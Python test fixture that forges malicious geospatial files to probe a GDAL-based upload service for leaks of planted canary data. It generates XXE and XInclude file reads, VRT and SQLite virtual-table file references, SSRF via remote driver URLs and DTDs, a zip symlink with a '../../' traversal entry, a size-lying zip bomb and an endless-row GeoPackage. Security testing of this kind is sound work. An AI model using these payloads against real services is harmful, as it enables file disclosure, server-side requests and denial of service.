"""Files that mean harm: forged in the format of each GDAL driver that would open something else."""

from __future__ import annotations

import io
import json
import sqlite3
import zipfile
from collections.abc import Iterator
from pathlib import Path

import geopandas as gpd
import pyogrio
import shapely

from tests.layers.sending import zipped

CANARY = "canary-7f3a"
#: Endings on which drivers insist when they write.
_WANTED = {"GPKG": ".gpkg", "FlatGeobuf": ".fgb", "GPX": ".gpx", "XLSX": ".xlsx", "ODS": ".ods"}


def canary_files(folder: Path) -> list[Path]:
    """Lay out files that nobody who sends a file may ever see the content of."""
    table = folder / "secret.csv"
    table.write_text(f"name,WKT\n{CANARY},POINT (116.3 40)\n", encoding="utf-8")
    features = folder / "secret.geojson"
    features.write_text(
        json.dumps(
            {
                "type": "Feature",
                "properties": {"name": CANARY},
                "geometry": {"type": "Point", "coordinates": [116.3, 40]},
            }
        ),
        encoding="utf-8",
    )
    base = folder / "secret.sqlite"
    with sqlite3.connect(base) as connection:
        connection.execute("create table accounts (name text)")
        connection.execute("insert into accounts values (?)", (CANARY,))
    connection.close()
    return [table, features, base]


def forged(canaries: list[Path], address: str, folder: Path) -> Iterator[tuple[str, bytes]]:
    """Yield contents by the driver that would follow them to a file or an address."""
    for path in canaries:
        yield from _naming_a_file(path)
        yield f"GPKG {path.suffix}", _geopackage_over(path, folder)
        yield f"SQLite {path.suffix}", _sqlite_over(path, folder)
        yield f"KMZ {path.suffix}", zipped({"doc.kml": _kml_entity(path)})
        yield f"zip of VRT {path.suffix}", zipped({"a.vrt": _vrt(path), "a.geojson": _vrt(path)})
        yield f"zip of a link {path.suffix}", _link(path)
    yield from _naming_an_address(address)


def _naming_a_file(path: Path) -> Iterator[tuple[str, bytes]]:
    yield f"OGR_VRT {path.suffix}", _vrt(path)
    yield f"OGR_VRT of SQL {path.suffix}", _vrt(path, "<SrcSQL>select * from secret</SrcSQL>")
    command = f"gdal vector pipeline ! read {path} ! write out"
    algorithm = {"type": "gdal_streamed_alg", "command_line": command}
    yield f"GDALG {path.suffix}", json.dumps(algorithm).encode()
    yield f"KML {path.suffix}", _kml_entity(path)
    yield f"KML link {path.suffix}", _kml_link(f"file://{path}")
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{path}" parse="text"/>'
    yield f"KML XInclude {path.suffix}", _kml(include)
    yield f"GML {path.suffix}", _gml(include)
    yield f"GPX {path.suffix}", _entity(path) + b'<gpx version="1.1"><wpt lat="1" lon="1"/></gpx>'
    yield f"GeoRSS {path.suffix}", _entity(path) + b"<rss><channel><item>&c;</item></channel></rss>"
    yield f"PDS4 {path.suffix}", f"<Product_Observational><file_name>{path}".encode()
    yield f"MapML {path.suffix}", f'<mapml- ><link href="{path}"/></mapml->'.encode()
    yield f"GPSBabel {path.suffix}", f"GPSBABEL:csv:{path}".encode()
    yield f"a path {path.suffix}", str(path).encode()
    yield f"vsi {path.suffix}", f"/vsisubfile/0_100,{path}".encode()
    yield f"JSON of a path {path.suffix}", json.dumps(str(path)).encode()
    yield f"STACIT {path.suffix}", _stac(str(path))
    yield f"crs file {path.suffix}", _geojson_with_crs(f"+proj=longlat +nadgrids={path} +type=crs")


def _naming_an_address(address: str) -> Iterator[tuple[str, bytes]]:
    for root in ("OGRWFSDataSource", "OGROAPIFDataSource", "OGRCSWDataSource"):
        yield root, f"<{root}><URL>{address}/</URL></{root}>".encode()
    yield "WFS", f"WFS:{address}/".encode()
    yield "OAPIF", json.dumps({"links": [{"rel": "data", "href": address}]}).encode()
    yield "HTTP", f"{address}/a.geojson".encode()
    yield "VRT of HTTP", _vrt(Path("/vsicurl") / f"{address}/a.geojson")
    yield "KML of HTTP", _kml_link(f"{address}/a.kml")
    doctype = f'<!DOCTYPE kml SYSTEM "{address}/a.dtd">'.encode()
    yield "DTD of HTTP", doctype + b"<kml><Placemark/></kml>"
    schema = f'<ogr schemaLocation="{address}"'.encode()
    yield "GML schema of HTTP", _gml("").replace(b"<ogr", schema, 1)
    for name in ("ES", "Carto", "AmigoCloud", "NGW", "PLScenes", "EEDA", "MVT", "OGCAPI"):
        yield name, f"{name}:{address}/".encode()
    yield "STACIT of HTTP", _stac(f"/vsicurl/{address}/a.geojson")
    linked = {"type": "Link", "href": f"{address}/a", "properties": {}}
    yield "GeoJSON link", json.dumps({"type": "FeatureCollection", "features": [linked]}).encode()
    yield "crs of HTTP", _geojson_with_crs(f"{address}/crs")
    esri = {"geometryType": "esriGeometryPoint", "features": [], "exceededTransferLimit": True}
    yield "ESRIJSON", json.dumps({**esri, "url": address}).encode()


def written_by_gdal(folder: Path) -> Iterator[tuple[str, bytes]]:
    """Yield a sound file of each driver that writes one file of points."""
    points = gpd.GeoDataFrame({"n": ["a"]}, geometry=[shapely.Point(116.3, 40)], crs="EPSG:4326")
    for number, (driver, ability) in enumerate(sorted(pyogrio.list_drivers().items())):
        if "w" not in ability:
            continue
        path = folder / f"written{number}{_WANTED.get(driver, '.dat')}"
        try:
            points.to_file(path, driver=driver, engine="pyogrio")
        except Exception:
            continue
        if path.is_file():
            yield driver, path.read_bytes()


def _vrt(path: Path, more: str = "") -> bytes:
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="{path.stem}">'
        f"<SrcDataSource relativeToVRT='0'>{path}</SrcDataSource>{more}"
        "</OGRVRTLayer></OGRVRTDataSource>"
    ).encode()


def _entity(path: Path) -> bytes:
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY c SYSTEM "file://{path}">]>'.encode()


def _kml(inside: str) -> bytes:
    return (
        '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark>'
        f"<name>{inside}</name><Point><coordinates>116.3,40</coordinates></Point>"
        "</Placemark></Document></kml>"
    ).encode()


def _kml_entity(path: Path) -> bytes:
    return _entity(path) + _kml("&c;")


def _kml_link(address: str) -> bytes:
    return (
        '<kml xmlns="http://www.opengis.net/kml/2.2"><Document>'
        f"<NetworkLink><Link><href>{address}</href></Link></NetworkLink>"
        f'<Style id="s"><IconStyle><Icon><href>{address}</href></Icon></IconStyle></Style>'
        f"<Placemark><name>a</name><styleUrl>{address}#s</styleUrl>"
        "<Point><coordinates>116.3,40</coordinates></Point></Placemark></Document></kml>"
    ).encode()


def _gml(inside: str) -> bytes:
    return (
        '<ogr:FeatureCollection xmlns:ogr="http://ogr.maptools.org/" '
        'xmlns:gml="http://www.opengis.net/gml"><gml:featureMember><ogr:a>'
        f"<ogr:name>{inside}</ogr:name></ogr:a></gml:featureMember></ogr:FeatureCollection>"
    ).encode()


def _stac(target: str) -> bytes:
    item = {"type": "Feature", "stac_version": "1.0.0", "assets": {"a": {"href": target}}}
    item |= {"properties": {"proj:epsg": 4326}, "geometry": None, "links": [{"href": target}]}
    return json.dumps({"type": "FeatureCollection", "features": [item]}).encode()


def _geojson_with_crs(crs: str) -> bytes:
    feature = {"type": "Feature", "properties": {}, "geometry": None}
    told = {"type": "name", "properties": {"name": crs}}
    return json.dumps({"type": "FeatureCollection", "crs": told, "features": [feature]}).encode()


def _geopackage_over(path: Path, folder: Path) -> bytes:
    """Return a GeoPackage with tables and views that reach for another file."""
    made = folder / f"over{path.suffix}.gpkg"
    sound_geopackage(made)
    with sqlite3.connect(made) as base:
        base.execute("pragma writable_schema = on")
        for number, module in enumerate(("VirtualOGR", "VirtualShape", "VirtualText")):
            sql = f"CREATE VIRTUAL TABLE v{number} USING {module}('{path}')"
            base.execute(
                "insert into sqlite_master values ('table', ?, ?, 0, ?)",
                (f"v{number}", f"v{number}", sql),
            )
        _publish(base, "v0")
    base.close()
    return made.read_bytes()


def _sqlite_over(path: Path, folder: Path) -> bytes:
    made = folder / f"over{path.suffix}.sqlite"
    with sqlite3.connect(made) as base:
        base.execute("create table a (name text, WKT text)")
        base.execute("pragma writable_schema = on")
        sql = f"CREATE VIRTUAL TABLE v USING VirtualOGR('{path}')"
        base.execute("insert into sqlite_master values ('table', 'v', 'v', 0, ?)", (sql,))
    base.close()
    return made.read_bytes()


def sound_geopackage(path: Path) -> None:
    """Write a GeoPackage of one point."""
    points = gpd.GeoDataFrame({"n": ["a"]}, geometry=[shapely.Point(116.3, 40)], crs="EPSG:4326")
    points.to_file(path, layer="points", driver="GPKG", engine="pyogrio")


def _publish(base: sqlite3.Connection, name: str) -> None:
    base.execute(
        "insert into gpkg_contents (table_name, data_type, identifier, srs_id) "
        "values (?, 'features', ?, 4326)",
        (name, name),
    )
    base.execute(
        "insert into gpkg_geometry_columns values (?, 'geom', 'POINT', 4326, 0, 0)", (name,)
    )


def endless_geopackage(folder: Path) -> bytes:
    """Return a GeoPackage with a layer whose rows never end."""
    made = folder / "endless.gpkg"
    sound_geopackage(made)
    with sqlite3.connect(made) as base:
        base.execute(
            "create view endless as with recursive n(i) as "
            "(select 1 union all select i + 1 from n) select i as fid, "
            "(select geom from points) as geom, 'x' as n from n"
        )
        base.execute("delete from gpkg_contents where table_name = 'points'")
        base.execute("delete from gpkg_geometry_columns where table_name = 'points'")
        _publish(base, "endless")
    base.close()
    return made.read_bytes()


def _link(path: Path) -> bytes:
    """Return an archive whose member is a symbolic link."""
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w") as archive:
        info = zipfile.ZipInfo("a.csv")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, str(path))
        archive.writestr("../../up.csv", f"lon,lat\n{path},1\n")
    return body.getvalue()


def lying_archive(stated: int, real: int) -> bytes:
    """Return an archive that states a small size for what unpacks to a large one."""
    data = bytearray(zipped({"a.csv": b"lon,lat\n" + b"1" * real}))
    size = (real + len(b"lon,lat\n")).to_bytes(4, "little")
    return bytes(data.replace(size, stated.to_bytes(4, "little")))
